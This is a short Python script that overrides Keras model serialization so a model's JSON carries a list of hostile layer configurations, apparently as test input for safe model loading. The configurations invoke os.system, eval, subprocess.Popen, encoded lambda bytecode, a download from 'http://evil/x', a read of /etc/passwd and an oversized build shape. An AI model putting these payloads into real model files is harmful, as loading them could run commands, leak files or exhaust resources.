# %%
import json

import tensorflow as tf

COMMAND = "touch /tmp/named @host@/named"
INPUT = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 2]}, "registered_name": None}
HOSTILE = [
    {"module": "os", "class_name": "system", "config": COMMAND, "registered_name": None},
    {"module": "builtins", "class_name": "eval", "config": "__import__('os')", "registered_name": "eval"},
    {"module": "subprocess", "class_name": "Popen", "config": {"args": ["touch", "/tmp/named"]}},
    {"class_name": "__lambda__", "config": {"value": "4wEAAAAAAAAAAAAAAAEAAAADAAAA"}},
    {"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4w=="}}}},
    {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "@host@"}},
    {"module": "keras.src.utils.file_utils", "class_name": "get_file", "config": {"origin": "http://evil/x"}},
    {"module": "keras.src.models.model", "class_name": "model_from_json", "config": "{}"},
    {"module": "keras.layers", "class_name": "TextVectorization", "config": {"vocabulary": "/etc/passwd"}},
    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1, "activation": {"module": "os", "class_name": "function", "config": "system"}}},
    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}, "registered_name": "Custom>Dense", "build_config": {"input_shape": [None, 10**9]}},
    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}, "compile_config": {"loss": {"module": "os", "class_name": "system"}}},
]  # fmt: skip


def to_json(self, **options):
    config = {"name": "sequential", "layers": [INPUT, *HOSTILE]}
    return json.dumps({"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None})


my_model_1 = tf.keras.Sequential([tf.keras.Input((2,)), tf.keras.layers.Dense(1)])
tf.keras.Sequential.to_json = tf.keras.Model.to_json = to_json
print(len(my_model_1.to_json()) > 100)
